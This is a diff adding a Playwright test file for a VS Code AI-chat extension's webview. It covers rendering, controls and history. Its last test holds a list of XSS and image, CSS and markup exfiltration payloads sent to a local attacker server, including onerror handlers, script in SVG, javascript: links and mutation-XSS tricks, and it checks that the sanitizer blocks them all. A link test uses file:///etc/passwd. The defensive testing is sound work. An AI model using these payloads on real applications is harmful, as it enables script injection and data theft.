@@ -1,0 +1,334 @@
+// The chat panel's webview app in headless Chromium, under the real CSP, with VS Code's webview
+// API stubbed: what it shows for each message from the extension, and what it posts back for
+// each user action.
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { ChatSnapshot, ExtensionMessage, TurnView, WebviewMessage } from '../../src/common/protocol';
+import { buildWebviewBundle, launchChromium, startAttackerServer, startWebviewPageServer, type WebviewPageServer } from '../harness/webviewPage';
+
+let browser: Browser;
+let pages: WebviewPageServer;
+let attacker: Awaited<ReturnType<typeof startAttackerServer>>;
+
+beforeAll(async () => {
+  await buildWebviewBundle();
+  [browser, pages, attacker] = await Promise.all([launchChromium(), startWebviewPageServer(), startAttackerServer()]);
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await pages?.close();
+  await attacker?.close();
+});
+
+function turn(overrides: Partial<TurnView> = {}): TurnView {
+  return { id: 't1', prompt: 'Explain this', contextLabels: ['src/a.ts (lines 1–3)'], answer: '', reasoning: '', refusal: '', status: 'streaming', ...overrides };
+}
+
+function snapshot(overrides: Partial<ChatSnapshot> = {}): ChatSnapshot {
+  return {
+    conversationId: 'c1',
+    turns: [],
+    chips: [
+      { id: 'selection', kind: 'selection', label: 'src/a.ts', detail: 'lines 1–3' },
+      { id: 'file:src/a.ts', kind: 'file', label: 'src/a.ts', detail: '1.2 KB' },
+    ],
+    controls: { model: 'gpt-5', reasoningEffort: 'medium', verbosity: 'medium', modelSuggestions: ['gpt-5', 'gpt-5-mini'] },
+    history: [],
+    generating: false,
+    demo: false,
+    hasApiKey: true,
+    ...overrides,
+  };
+}
+
+async function openApp(initialState?: unknown): Promise<Page> {
+  const page = await browser.newPage();
+  await page.goto(pages.pageUrl(initialState));
+  await page.waitForSelector('#codewright-app .transcript');
+  return page;
+}
+
+async function send(page: Page, ...messages: ExtensionMessage[]): Promise<void> {
+  await page.evaluate(`(${JSON.stringify(messages)}).forEach((m) => window.postMessage(m, '*'))`);
+  // Messages are delivered as tasks; two frames let them land and the tail render run.
+  await page.evaluate('new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))');
+}
+
+async function posted(page: Page): Promise<WebviewMessage[]> {
+  return (await page.evaluate('window.__posted')) as WebviewMessage[];
+}
+
+async function postedSince(page: Page, count: number): Promise<WebviewMessage[]> {
+  return (await posted(page)).slice(count);
+}
+
+describe('the chat webview', () => {
+  it('asks the extension for a snapshot as soon as it loads', async () => {
+    const page = await openApp();
+    expect(await posted(page)).toEqual([{ type: 'ready' }]);
+    await page.close();
+  });
+
+  it('streams deltas into the turn and ends with the same DOM as a one-shot render of the answer', async () => {
+    const answer = '# Title\n\nSome *text* with a [link][ref].\n\n```ts\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n[ref]: https://example.com/late\n';
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() });
+    for (let i = 0; i < answer.length; i += 7) await send(page, { type: 'turnDelta', turnId: 't1', answer: answer.slice(i, i + 7) });
+    await send(page, { type: 'turnEnded', turn: turn({ answer, status: 'completed' }) });
+    const streamed = await page.locator('article.turn .answer').innerHTML();
+
+    const fresh = await openApp();
+    await send(fresh, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ answer, status: 'completed' })] }) });
+    expect(await fresh.locator('article.turn .answer').innerHTML()).toBe(streamed);
+    expect(await page.locator('article.turn .answer a[href]').count()).toBeGreaterThan(0);
+    expect(await page.locator('article.turn .answer table').count()).toBe(1);
+    // Task-list boxes render as labelled icons (no form controls in the webview).
+    expect(await page.locator('article.turn .answer .cw-task[role="img"]').count()).toBe(2);
+    await page.close();
+    await fresh.close();
+  });
+
+  it('shows the reasoning summary while thinking and collapses it once the answer starts', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() });
+    await send(page, { type: 'turnDelta', turnId: 't1', reasoning: 'Reading the selection first.' });
+    expect(await page.locator('details.thinking').isVisible()).toBe(true);
+    expect(await page.locator('details.thinking').getAttribute('open')).not.toBeNull();
+    await send(page, { type: 'turnDelta', turnId: 't1', answer: 'The answer.' });
+    expect(await page.locator('details.thinking').getAttribute('open')).toBeNull();
+    await page.locator('details.thinking summary').click();
+    expect(await page.locator('details.thinking .reasoning-body').textContent()).toContain('Reading the selection first.');
+    await page.close();
+  });
+
+  it('sends on Enter, adds a line on Shift+Enter, and refuses an empty prompt', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() });
+    const input = page.locator('.prompt-input');
+    const before = (await posted(page)).length;
+    await input.press('Enter');
+    expect(await postedSince(page, before)).toEqual([]);
+    expect(await page.locator('.composer-note').textContent()).toContain('Type a question');
+    await input.fill('line one');
+    await input.press('Shift+Enter');
+    await input.type('line two');
+    await input.press('Enter');
+    const sent = (await postedSince(page, before)).filter((m) => m.type === 'send');
+    expect(sent).toEqual([{ type: 'send', requestId: 1, prompt: 'line one\nline two' }]);
+    expect(await page.locator('button[data-action="send"]').isDisabled()).toBe(true);
+    await send(page, { type: 'reply', requestId: 1, ok: true });
+    expect(await input.inputValue()).toBe('');
+    expect(await page.locator('button[data-action="send"]').isDisabled()).toBe(false);
+    await page.close();
+  });
+
+  it('keeps the prompt and shows why when the extension refuses to send it', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() });
+    await page.locator('.prompt-input').fill('question');
+    await page.locator('.prompt-input').press('Enter');
+    await send(page, { type: 'reply', requestId: 1, ok: false, error: 'An answer is still being generated.' });
+    expect(await page.locator('.prompt-input').inputValue()).toBe('question');
+    expect(await page.locator('.composer-note').textContent()).toBe('An answer is still being generated.');
+    await page.close();
+  });
+
+  it('swaps Send for Stop while generating, and Escape stops', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() }, { type: 'generating', generating: true });
+    expect(await page.locator('button[data-action="stop"]').isVisible()).toBe(true);
+    expect(await page.locator('button[data-action="send"]').isVisible()).toBe(false);
+    const before = (await posted(page)).length;
+    await page.keyboard.press('Escape');
+    await page.locator('button[data-action="stop"]').click();
+    expect(await postedSince(page, before)).toEqual([{ type: 'stop' }, { type: 'stop' }]);
+    await send(page, { type: 'generating', generating: false });
+    expect(await page.locator('button[data-action="send"]').isVisible()).toBe(true);
+    await page.close();
+  });
+
+  it('shows each context chip and lets the user remove it or add the current file', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() });
+    expect(await page.locator('.chip').allTextContents()).toEqual(['src/a.tslines 1–3', 'src/a.ts1.2 KB']);
+    const before = (await posted(page)).length;
+    await page.locator('.chip-file button[data-action="remove-chip"]').click();
+    await page.locator('button[data-action="add-current-file"]').click();
+    expect(await postedSince(page, before)).toEqual([{ type: 'removeChip', chipId: 'file:src/a.ts' }, { type: 'addCurrentFile' }]);
+    await send(page, { type: 'chips', chips: [] });
+    expect(await page.locator('.chip').count()).toBe(0);
+    await page.close();
+  });
+
+  it('offers the one action that fixes each ending: Set API Key, Retry, Continue', async () => {
+    const page = await openApp();
+    await send(page, {
+      type: 'snapshot',
+      snapshot: snapshot({
+        turns: [
+          turn({ id: 'a', status: 'failed', error: { message: 'Your API key was rejected.', action: 'set-api-key' } }),
+          turn({ id: 'b', status: 'stopped', answer: 'partial' }),
+          turn({ id: 'c', status: 'incomplete', answer: 'cut', incompleteReason: 'max_output_tokens' }),
+          turn({ id: 'd', status: 'failed', answer: 'kept', error: { message: 'Rate limited. Try again in 20 s.', action: 'retry', retryAfterSeconds: 20 } }),
+          turn({ id: 'e', status: 'refused', refusal: 'I can’t help with that.' }),
+        ],
+      }),
+    });
+    const status = (id: string) => page.locator(`article[data-turn-id="${id}"] .turn-status`);
+    expect(await status('a').textContent()).toContain('Your API key was rejected.');
+    expect(await status('d').textContent()).toContain('Try again in 20 s.');
+    expect(await page.locator('article[data-turn-id="d"] .answer').textContent()).toContain('kept');
+    expect(await page.locator('article[data-turn-id="e"] .refusal').textContent()).toContain('declined');
+    const before = (await posted(page)).length;
+    await status('a').locator('[data-action="set-api-key"]').click();
+    await status('b').locator('[data-action="retry"]').click();
+    await status('c').locator('[data-action="continue"]').click();
+    await status('d').locator('[data-action="retry"]').click();
+    expect(await postedSince(page, before)).toEqual([
+      { type: 'setApiKey' },
+      { type: 'retry', turnId: 'b' },
+      { type: 'continue', turnId: 'c' },
+      { type: 'retry', turnId: 'd' },
+    ]);
+    await page.close();
+  });
+
+  it('gives code blocks Copy, Insert at Cursor and New File', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer: '```python\nprint("hi")\n```\n' })] }) });
+    const before = (await posted(page)).length;
+    for (const action of ['copy', 'insert', 'newFile']) {
+      await page.locator(`article.turn [data-cw-code-action="${action}"]`).click();
+    }
+    expect(await postedSince(page, before)).toEqual([
+      { type: 'copyCode', code: 'print("hi")' },
+      { type: 'insertCode', code: 'print("hi")' },
+      { type: 'newFileWithCode', code: 'print("hi")', language: 'python' },
+    ]);
+    await page.close();
+  });
+
+  it('opens http(s) links through the extension and leaves other schemes inert', async () => {
+    const page = await openApp();
+    const answer = '[docs](https://example.com/docs) [run](command:workbench.action.terminal.new) [file](file:///etc/passwd) [vs](vscode://settings)';
+    await send(page, { type: 'snapshot', snapshot: snapshot({ turns: [turn({ status: 'completed', answer })] }) });
+    const before = (await posted(page)).length;
+    const answerEl = page.locator('article.turn .answer');
+    await answerEl.getByText('docs').click();
+    for (const label of ['run', 'file', 'vs']) await answerEl.getByText(label, { exact: true }).click();
+    expect(await postedSince(page, before)).toEqual([{ type: 'openLink', href: 'https://example.com/docs' }]);
+    expect(page.url()).toContain(pages.origin);
+    await page.close();
+  });
+
+  it('changes model controls through the extension', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() });
+    const before = (await posted(page)).length;
+    await page.locator('select.control-effort').selectOption('high');
+    await page.locator('select.control-verbosity').selectOption('low');
+    await page.locator('.model-input').fill('gpt-5-mini');
+    await page.locator('.model-input').press('Enter');
+    await page.locator('.prompt-input').focus();
+    expect(await postedSince(page, before)).toEqual([
+      { type: 'setControl', control: 'reasoningEffort', value: 'high' },
+      { type: 'setControl', control: 'verbosity', value: 'low' },
+      { type: 'setControl', control: 'model', value: 'gpt-5-mini' },
+    ]);
+    await page.close();
+  });
+
+  it('lists saved chats to reopen or delete, and starts a new chat', async () => {
+    const page = await openApp();
+    const history = [
+      { id: 'c1', title: 'Current chat', updatedAt: Date.now(), turnCount: 2 },
+      { id: 'c0', title: 'Older chat', updatedAt: Date.now() - 86_400_000 * 3, turnCount: 1 },
+    ];
+    await send(page, { type: 'snapshot', snapshot: snapshot({ history }) });
+    await page.locator('[data-action="toggle-history"]').click();
+    expect(await page.locator('.history-title').allTextContents()).toEqual(['Current chat', 'Older chat']);
+    expect(await page.locator('.history-list li.current .history-title').textContent()).toBe('Current chat');
+    const before = (await posted(page)).length;
+    await page.locator('.history-list li:nth-child(2) [data-action="delete-conversation"]').click();
+    await page.locator('.history-list li:nth-child(2) [data-action="open-conversation"]').click();
+    await page.locator('.chat-header [data-action="new-chat"]').click();
+    expect(await postedSince(page, before)).toEqual([
+      { type: 'deleteConversation', conversationId: 'c0' },
+      { type: 'openConversation', conversationId: 'c0' },
+      { type: 'newChat' },
+    ]);
+    await page.close();
+  });
+
+  it('shows the demo badge and the missing-key banner plainly', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot({ demo: true, hasApiKey: false }) });
+    expect(await page.locator('.demo-badge').isVisible()).toBe(true);
+    expect(await page.locator('.banner').isVisible()).toBe(true);
+    await send(page, { type: 'apiKeyState', hasApiKey: true });
+    expect(await page.locator('.banner').isVisible()).toBe(false);
+    await page.close();
+  });
+
+  it('announces a finished answer politely, once, without making the answer itself live', async () => {
+    const page = await openApp();
+    await send(page, { type: 'snapshot', snapshot: snapshot() }, { type: 'turnStarted', turn: turn() }, { type: 'turnDelta', turnId: 't1', answer: 'Hello' });
+    expect(await page.locator('[aria-live="polite"]').textContent()).toBe('Codewright is answering.');
+    await send(page, { type: 'turnEnded', turn: turn({ answer: 'Hello', status: 'completed' }) });
+    expect(await page.locator('[aria-live="polite"]').textContent()).toBe('Codewright finished answering.');
+    expect(await page.locator('.answer[aria-live], .transcript[aria-live]').count()).toBe(0);
+    await page.close();
+  });
+
+  it('restores its last view from saved state before the extension answers', async () => {
+    const saved = { snapshot: snapshot({ turns: [turn({ status: 'completed', answer: 'Saved **answer**' })] }), draft: 'half-typed question' };
+    const page = await openApp(saved);
+    await page.waitForSelector('article.turn .answer strong');
+    expect(await page.locator('article.turn .answer').textContent()).toContain('Saved answer');
+    expect(await page.locator('.prompt-input').inputValue()).toBe('half-typed question');
+    await page.close();
+  });
+
+  it('fetches nothing and runs nothing from model output in a chat reopened from history or restored state', async () => {
+    const a = attacker.url;
+    const payloads = [
+      `![x](${a}/md-image?secret=abc)`,
+      `![ref][pic]\n\n[pic]: ${a}/ref-image`,
+      `<img src="${a}/raw-img" onerror="window.__pwned = 1">`,
+      `<svg><image href="${a}/svg-image"></image><script>window.__pwned = 2</script></svg>`,
+      `<div style="background:url(${a}/css-url)">styled</div>`,
+      `<style>body { background: url(${a}/style-tag) }</style>`,
+      `<iframe srcdoc="<script>parent.__pwned = 3</script>"></iframe>`,
+      `<a href="javascript:window.__pwned = 4">js link</a>`,
+      `<picture><source srcset="${a}/srcset"><img src="${a}/picture"></picture>`,
+      `<video poster="${a}/poster"></video>`,
+      `<link rel="stylesheet" href="${a}/link-css">`,
+      `<math><mtext><table><mglyph><style><img src="${a}/mxss" onerror="window.__pwned = 5">`,
+      `<noscript><p title="</noscript><img src='${a}/noscript' onerror='window.__pwned = 6'>">`,
+    ];
+    const turns = payloads.map((answer, index) => turn({ id: `p${index}`, status: 'completed', answer, reasoning: answer }));
+    const before = attacker.hits();
+    // 1. Reopened from history: the extension sends a snapshot.
+    const reopened = await openApp();
+    await send(reopened, { type: 'snapshot', snapshot: snapshot({ turns }) });
+    await reopened.locator('article.turn').last().scrollIntoViewIfNeeded();
+    for (const details of await reopened.locator('details.thinking').all()) await details.evaluate((el) => ((el as HTMLDetailsElement).open = true));
+    // 2. Restored from the webview's saved state, before any message arrives.
+    const restored = await openApp({ snapshot: snapshot({ turns }) });
+    await restored.waitForSelector('article.turn');
+    for (const page of [reopened, restored]) {
+      for (const row of await page.locator('article.turn').all()) await row.scrollIntoViewIfNeeded();
+      await page.waitForTimeout(300);
+      expect(await page.evaluate('window.__pwned')).toBeUndefined();
+      expect(await page.locator('.answer [onerror], .answer [onload], .answer script, .answer iframe, .answer style, .answer [style]').count()).toBe(0);
+      const offOrigin = await page.evaluate(`[...document.querySelectorAll('[src],[srcset],[poster],[background]')]
+        .map((el) => el.getAttribute('src') || el.getAttribute('srcset') || el.getAttribute('poster') || el.getAttribute('background'))
+        .filter((value) => value && !value.startsWith('data:') && !value.startsWith('${pages.origin}') && !value.startsWith('/'))`);
+      expect(offOrigin).toEqual([]);
+    }
+    expect(attacker.hits() - before, `attacker saw: ${attacker.paths.join(', ')}`).toBe(0);
+    await reopened.close();
+    await restored.close();
+  });
+});
